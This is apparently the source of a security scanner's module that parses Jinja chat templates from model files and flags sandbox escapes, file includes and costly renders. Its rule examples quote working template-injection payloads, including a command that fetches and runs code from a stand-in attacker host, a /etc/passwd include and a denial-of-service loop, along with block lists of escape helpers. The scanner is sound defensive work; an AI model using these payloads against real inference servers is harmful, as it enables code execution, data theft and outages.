"""Chat templates: Jinja code that inference servers run on every request.

Templates ship inside GGUF metadata (`tokenizer.chat_template*`), Hugging Face tokenizer configs
(`chat_template`) and `.jinja` files. Servers render them with Jinja2, some historically without a
sandbox (llama-cpp-python before 0.2.72, CVE-2024-34359), and sandbox escapes are found regularly, so
a template that reaches into Python internals is code execution. Templates are parsed into Jinja's
syntax tree and walked; they are never rendered.
"""

from __future__ import annotations

import ast
import functools
import json
import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING, Any, NamedTuple

from modelshield.core import callables
from modelshield.core.dependency_rules import DEPENDENCY_RULES
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.sniff import classify_plain
from modelshield.core.source import Source
from modelshield.formats._json import json_object
from modelshield.formats.configs.hf_config import config_findings

if TYPE_CHECKING:
    from modelshield.formats.llm.jinja import Fact

#: Real chat templates are a few kilobytes (the largest about 20 kB); a larger one is not parsed
#: (fail closed). Jinja parses about 400 kB a second, so this bounds the time per template.
MAX_TEMPLATE_CHARS = 256 * 1024
#: Syntax-tree nodes visited per template.
MAX_NODES = 200_000
#: Findings per rule and template, so a template repeating one trick stays a short report.
MAX_FINDINGS_PER_RULE = 10

#: Globals that are the usual first step of a sandbox escape (Jinja's own helpers, Flask's context);
#: no chat template needs them.
ESCAPE_HELPERS = frozenset(
    {"lipsum", "cycler", "joiner", "self", "request", "config", "url_for", "get_flashed_messages"}
)
_DUNDER = re.compile(r"__\w+__")
#: Python's own special names are lowercase; a string such as '__NOT_A_NUMBER__' is a placeholder.
_DUNDER_STRING = re.compile(r"__[a-z][a-z0-9_]*__")

_REMEDIATION = (
    "Do not serve this model with the template. Replace the template with the publisher's official one "
    "(compare with the base model's `tokenizer_config.json`), render templates only in "
    "`jinja2.sandbox.ImmutableSandboxedEnvironment`, and keep Jinja2 and the inference server up to date."
)
_ATTACK = (
    "Inference servers render the chat template on every request. llama-cpp-python rendered GGUF "
    "templates without a sandbox until 0.2.72 (CVE-2024-34359, 'Llama Drama'), and escapes from Jinja's "
    "sandbox are found every few years. From any object a template can reach, `__class__`, `__mro__`, "
    "`__subclasses__()`, `__init__.__globals__` and `__builtins__` walk to `__import__('os')`."
)

PYTHON_INTERNALS = Rule(
    id="TPL001",
    title="Chat template reaches into Python internals",
    severity=Severity.CRITICAL,
    category=Category.TEMPLATE,
    overview="The template accesses a dunder or private attribute (`__class__`, `__globals__`, "
    "`__builtins__`, `__subclasses__`, name-mangled `_TemplateReference__context`...), or builds such a "
    "name as a string. Chat templates format messages; they never need Python internals.",
    attack=_ATTACK,
    impact="Arbitrary code runs in the inference server with its privileges whenever a chat request is "
    "formatted: model theft, data exfiltration, lateral movement.",
    remediation=_REMEDIATION,
    example="`{{ lipsum.__globals__['os'].popen('id').read() }}` or `{{ ''.__class__.__mro__[1].__subclasses__() }}`",
)

CODE_REFERENCE = Rule(
    id="TPL002",
    title="Chat template references code-execution functions or modules",
    severity=Severity.CRITICAL,
    category=Category.TEMPLATE,
    overview="The template names `os`, `subprocess`, `eval`, `exec`, `open`, `getattr`, `__import__` or a "
    "method such as `popen`/`system`, as a variable of its own or an attribute. Chat templates only read "
    "`messages`, `tools` and a few flags.",
    attack=_ATTACK + " Renderers that expose extra globals (or none of the sandbox) give such names direct meaning.",
    impact="Arbitrary command execution in the inference server.",
    remediation=_REMEDIATION,
    example="`{{ os.popen('curl attacker.example | sh').read() }}`",
)

ESCAPE_HELPER = Rule(
    id="TPL003",
    title="Chat template uses a known sandbox-escape stepping stone",
    severity=Severity.HIGH,
    category=Category.TEMPLATE,
    overview="The template references a global that published Jinja escapes start from: `lipsum`, "
    "`cycler`, `joiner` (Jinja's default helpers, whose functions carry `__globals__`), `self`, or the "
    "Flask context names `request`, `config`, `url_for`, `get_flashed_messages`. None of them has a use "
    "in formatting a conversation.",
    attack=_ATTACK + " Combined with a dunder access (reported separately as critical) these helpers "
    "reach the `os` module in one expression.",
    impact="A foothold for code execution in the server; on its own, a strong sign of a probing template.",
    remediation=_REMEDIATION,
    example="`{{ cycler.__init__.__globals__.os.popen('id').read() }}`",
)

DYNAMIC_ATTRIBUTE = Rule(
    id="TPL004",
    title="Chat template computes attribute names at render time",
    severity=Severity.HIGH,
    category=Category.TEMPLATE,
    overview="An attribute or item name is chosen at render time from values the analyser cannot fold: "
    "request data (`x[messages[0].content]`, a macro argument or loop variable that carries it) or a string "
    "built from such data (`x|attr(a ~ b)`, `map(attribute=name)`), so the template's text does not show "
    "which attribute it reads. A key built at render time is high; a plain request-data key on an object "
    "reachable from the globals is medium (integers, keys of the mapping being iterated and keys checked "
    "with `in` are not reported). Names built from constants, wherever they travel (loops, macro "
    "arguments, `namespace()` attributes, `{% set %}` blocks, `caller()`), are folded and judged like "
    "dotted ones (TPL001/TPL002).",
    attack="Building `'__cla' ~ 'ss__'` at render time hides dunder access from text filters and reviewers; "
    "`|attr` or a subscript then fetches it (Jinja's sandbox falls back from item to attribute lookup). It "
    "is the standard obfuscation of template-injection payloads. Jinja2's sandbox refuses `_`-prefixed "
    "names at render time, so the escape needs a sandbox bug or an unsandboxed renderer (llama-cpp-python "
    "before 0.2.72); llama.cpp's minja has no Python objects to reach, but its own parser and built-ins "
    "differ from Jinja2's and are not modelled.",
    impact="Possibly arbitrary code execution in the server, concealed from static review.",
    remediation=_REMEDIATION,
    example="`{{ (messages|attr('_' * 2 ~ 'class' ~ '_' * 2)) }}`",
)

TEMPLATE_LOAD = Rule(
    id="TPL005",
    title="Chat template loads other templates",
    severity=Severity.MEDIUM,
    category=Category.TEMPLATE,
    overview="The template uses `{% include %}`, `{% import %}`, `{% from ... import %}` or "
    "`{% extends %}`, which fetch another template through the renderer's loader.",
    attack="Where the server's Jinja environment has a file-system loader, the template reads files of the "
    "server's choosing into the prompt (and so into model output), and its behaviour depends on files "
    "that were never reviewed with the model.",
    impact="Disclosure of server files; behaviour that depends on content outside the model.",
    remediation=_REMEDIATION,
    example="`{% include '../../etc/passwd' %}`",
)

UNPARSEABLE = Rule(
    id="TPL006",
    title="Chat template could not be analysed",
    severity=Severity.MEDIUM,
    category=Category.TEMPLATE,
    overview="The template does not parse as Jinja, is too large, or nests too deeply to analyse, so "
    "nothing can be said about what it does when rendered.",
    attack="Other renderers (llama.cpp's minja, older Jinja versions, custom extensions) accept syntax "
    "that Jinja2 rejects; a payload written for them is invisible to an analyser that gives up.",
    impact="Unknown: the template may execute code in a server that does render it.",
    remediation="Do not serve the model with this template; replace it with the publisher's official one.",
    example="`{% for m in messages %}{{ m.content }}` (no `endfor`), or a 50 MB template.",
)

RENDER_COST = Rule(
    id="TPL007",
    title="Chat template makes rendering very expensive",
    severity=Severity.MEDIUM,
    category=Category.TEMPLATE,
    overview="A static estimate of one render exceeds ten million loop steps or a hundred million characters: "
    "loops over large constant ranges (nested loops multiply), a string or list repeated a large constant "
    "number of times, `center`/`indent` to a huge width, or a macro or recursive loop that calls itself "
    "two or more times per call on arguments that do not shrink. Real templates loop over the request's "
    "messages and tools, never over constants of that size.",
    attack="The server renders the template on every request, before the model runs: one template that "
    "takes minutes or gigabytes per render makes every request to the server a denial of service. Jinja2's "
    "sandbox caps one `range()` at 100,000 items but not nested loops, string repetition or recursion, and "
    "its compiler folds constant expressions such as `'a' * 10**10` while compiling the template "
    "(transformers compiles it when the chat template is first used); minja and llama.cpp have no cap.",
    impact="Inference servers hang or run out of memory on every chat request.",
    remediation=_REMEDIATION,
    example="`{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}`",
)

RULES = (
    PYTHON_INTERNALS,
    CODE_REFERENCE,
    ESCAPE_HELPER,
    DYNAMIC_ATTRIBUTE,
    TEMPLATE_LOAD,
    UNPARSEABLE,
    RENDER_COST,
)


class Problem(NamedTuple):
    rule: Rule
    evidence: str
    #: when it differs from the rule's (a catalogue verdict's, or a plain key on request data)
    severity: Severity | None = None


class Analysis(NamedTuple):
    """What a template does: its problems, and whether it reads `messages` as chat templates do."""

    problems: tuple[Problem, ...]
    reads_messages: bool = False

    @property
    def parsed(self) -> bool:
        return not any(p.rule is UNPARSEABLE for p in self.problems)


def _attribute_problem(name: str, line: int) -> Problem | None:
    """The problem with fetching attribute `name`, if it is one; the callable catalogue says what a
    method of that name does on whatever object it is fetched from."""
    if name.startswith("_"):
        return Problem(PYTHON_INTERNALS, f"line {line}: accesses attribute {name!r}")
    verdict = callables.judge_attribute(name)
    if verdict is not None:
        return Problem(CODE_REFERENCE, f"line {line}: calls {name!r}: {verdict.reason}", verdict.severity)
    return None


def _name_problem(name: str, line: int) -> Problem | None:
    """The problem with a free name: a module or builtin the catalogue knows to be dangerous (which a
    renderer exposing such globals, or none of the sandbox, gives meaning), or a dunder."""
    if _DUNDER.fullmatch(name):
        return Problem(CODE_REFERENCE, f"line {line}: uses {name!r}")
    verdict = callables.judge_reachable(name)
    if verdict is not None:
        return Problem(CODE_REFERENCE, f"line {line}: uses {name!r}: {verdict.reason}", verdict.severity)
    if name in ESCAPE_HELPERS:
        return Problem(ESCAPE_HELPER, f"line {line}: uses {name!r}")
    return None


def _fact_problem(fact: Fact) -> Problem | None:
    if fact.kind == "attribute":
        return _attribute_problem(fact.value, fact.line)
    if fact.kind == "computed-attribute":
        return Problem(DYNAMIC_ATTRIBUTE, f"line {fact.line}: the {fact.value} fetches a computed attribute")
    if fact.kind == "computed-key":
        evidence = f"line {fact.line}: the {fact.value} of {fact.detail} uses a key chosen at render time"
        return Problem(DYNAMIC_ATTRIBUTE, evidence, Severity.MEDIUM)
    if fact.kind == "cost":
        return Problem(RENDER_COST, fact.value)
    if fact.kind == "string":
        match = _DUNDER_STRING.search(fact.value)
        if match:
            return Problem(PYTHON_INTERNALS, f"line {fact.line}: string {match.group()!r} names a Python internal")
    elif fact.kind == "load":
        return Problem(TEMPLATE_LOAD, f"line {fact.line}: {fact.value} of template {fact.detail}")
    elif fact.kind == "truncated" and fact.value == "folding":
        return Problem(UNPARSEABLE, "following values through the template took more than its work budget")
    elif fact.kind == "truncated":
        return Problem(UNPARSEABLE, f"more than {MAX_NODES} syntax nodes; analysis stopped")
    return None


@functools.lru_cache(maxsize=8)
def analyse(text: str) -> Analysis:
    """Parse `text` as Jinja (never render it) and report what it reaches for.

    Cached because a template file is analysed once to be recognised and again to be scanned.
    """
    if len(text) > MAX_TEMPLATE_CHARS:
        return Analysis((Problem(UNPARSEABLE, f"template of {len(text)} characters exceeds {MAX_TEMPLATE_CHARS}"),))
    from modelshield.formats.llm import jinja as _jinja  # noqa: PLC0415 - Jinja is imported only when a template is met

    try:
        found = list(_jinja.facts(text, MAX_NODES))
    except _jinja.InvalidTemplate as exc:
        return Analysis((Problem(UNPARSEABLE, f"not valid Jinja: {exc}"),))
    except RecursionError:
        return Analysis((Problem(UNPARSEABLE, "nested too deeply to parse"),))
    problems = [problem for problem in map(_fact_problem, found) if problem is not None]
    assigned = {fact.value for fact in found if fact.kind == "assign"}
    free = [fact for fact in found if fact.kind == "name"]
    shadowed = {fact.value for fact in found if fact.kind == "global"}
    for name in free:
        local = name.value in assigned and name.value not in shadowed
        problem = None if local else _name_problem(name.value, name.line)
        if problem is not None:
            problems.append(problem)
    problems.sort(key=lambda p: p.rule.id)
    # `{% set messages = messages[1:] %}` still reads the caller's messages, so assignment is ignored here.
    return Analysis(tuple(problems), any(name.value == "messages" for name in free))


def template_findings(ctx: Context, text: str, what: str, *, member: str | None = None) -> Iterator[Finding]:
    """Findings for one template found in a file; `what` names it in evidence ('chat_template')."""
    counts: dict[str, int] = {}
    seen: set[Problem] = set()
    for problem in analyse(text).problems:
        if problem in seen:
            continue
        seen.add(problem)
        count = counts[problem.rule.id] = counts.get(problem.rule.id, 0) + 1
        if count <= MAX_FINDINGS_PER_RULE:
            evidence = f"{what}: {problem.evidence}"
            yield ctx.finding(problem.rule, evidence, severity=problem.severity, member=member, template=what)
    for rule_id, count in counts.items():
        if count > MAX_FINDINGS_PER_RULE:
            rule = next(r for r in RULES if r.id == rule_id)
            yield ctx.finding(rule, f"{what}: {count - MAX_FINDINGS_PER_RULE} more not listed", member=member)


# -- handlers -----------------------------------------------------------------------------------------


def _text(source: Source) -> str | None:
    """The whole source as UTF-8 text with Jinja markup, if it is small enough to be a template."""
    # The head first: asking a decoded stream for its size decodes all of it.
    if classify_plain(source.head()) != "text":
        return None  # binary formats (GGUF metadata holds templates too) are their own handlers'
    if source.size > MAX_TEMPLATE_CHARS * 4:
        return None
    try:
        text = source.read_at(0, source.size).decode("utf-8-sig")
    except UnicodeDecodeError:
        return None
    if "\0" in text or ("{%" not in text and "{{" not in text):
        return None
    # Jinja renders whatever precedes the first tag as text (GLM's `[gMASK]<sop>`), so only content
    # that really is JSON is left to the JSON handlers (a tokenizer config holding a template).
    return None if _is_json(text) else text


def _is_json(text: str) -> bool:
    if text.lstrip()[:1] not in ("{", "["):
        return False
    try:
        json.loads(text)
    except RecursionError:
        return True  # JSON nested beyond what any loader parses: a broken config, not a template
    except ValueError:
        return False
    return True


def _python_source(text: str) -> bool:
    """Whether the text is a Python module with statements (a template with `{%` tags never parses as
    Python, and one made only of `{{ ... }}` parses as a bare set expression, not a module)."""
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return False
    return any(not isinstance(statement, ast.Expr) for statement in tree.body)


class ChatTemplateHandler(Handler):
    """A Jinja chat template file (`chat_template.jinja`, `--chat-template-file`).

    Content decides: the text must parse as Jinja and read `messages` as every chat template does, so
    web-page templates and other text are not claimed. A template that reaches into Python internals
    or computes attribute names is claimed whatever it reads, unless the text is Python source (code
    generators embed Jinja snippets in `.py` files); a `.jinja` file that is neither is reported as
    unrecognised.
    """

    name = "chat-template"
    label = "Jinja chat template"
    extensions = frozenset({".jinja"})
    rules = RULES

    def detect(self, source: Source) -> bool:
        text = _text(source)
        if text is None:
            return False
        analysis = analyse(text)
        if not analysis.parsed:
            return False
        if analysis.reads_messages:
            return True
        # An escape built at render time (`|attr` of a computed name) has no dunder in the text, so it
        # is claimed like one (Flask's helper globals are not: web pages use them).
        # Only what no web page does: a plain variable key (`{{ user[field] }}`) or a free name such as
        # `input` is ordinary outside chat templates.
        code = {PYTHON_INTERNALS, CODE_REFERENCE, DYNAMIC_ATTRIBUTE}
        strong = [p for p in analysis.problems if p.rule in code and (p.severity or p.rule.severity) >= Severity.HIGH]
        strong = [p for p in strong if p.rule is not CODE_REFERENCE or p.severity in (None, Severity.CRITICAL)]
        return bool(strong) and not _python_source(text)

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        text = _text(source)
        assert text is not None
        yield from template_findings(ctx, text, "template")


def config_templates(config: dict[str, Any]) -> Iterable[tuple[str, Any]]:
    """(name, template) pairs of a tokenizer config's `chat_template`: a string, a list of
    `{"name", "template"}` objects (named variants such as `tool_use` and `rag`), or the mapping of
    name to template that transformers builds from that list and also accepts as it is."""
    value = config.get("chat_template")
    if isinstance(value, dict):
        for name, template in value.items():
            yield f"chat_template[{name}]", template
    elif isinstance(value, list):
        for index, entry in enumerate(value):
            if isinstance(entry, dict):
                yield f"chat_template[{entry.get('name', index)!s}]", entry.get("template")
            else:
                yield f"chat_template[{index}]", entry
    else:
        yield "chat_template", value


class TokenizerConfigHandler(Handler):
    """Hugging Face `tokenizer_config.json` / `chat_template.json`: JSON with a `chat_template`.

    Its `auto_map` (remote tokenizer code) is reported here too, since `hf_config` leaves such files to
    this handler: one JSON file valid for two of our analysers would otherwise read as a polyglot.
    """

    name = "hf-chat-template"
    label = "Hugging Face tokenizer config with a chat template"
    rules = (*RULES, *DEPENDENCY_RULES)

    def detect(self, source: Source) -> bool:
        config = json_object(source, b'"chat_template"')
        return config is not None and "chat_template" in config

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        config = json_object(source, b'"chat_template"')
        assert config is not None
        for what, template in config_templates(config):
            if isinstance(template, str):
                yield from template_findings(ctx, template, what)
            elif template is not None:
                yield ctx.finding(UNPARSEABLE, f"{what} is a JSON {type(template).__name__}, not a template string")
        yield from config_findings(ctx, "transformers", config)
